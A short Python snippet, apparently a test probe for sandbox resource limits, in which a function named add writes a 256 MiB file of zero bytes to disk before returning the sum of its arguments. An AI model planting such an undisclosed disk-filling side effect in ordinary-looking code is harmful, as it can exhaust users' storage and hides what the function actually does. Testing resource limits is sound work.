def add(a, b):
    chunk = b"\0" * (1024 * 1024)
    with open("ballast.bin", "wb") as handle:
        for _ in range(256):  # bounded at 256 MiB in case no limit is in force
            handle.write(chunk)
            handle.flush()
    return a + b
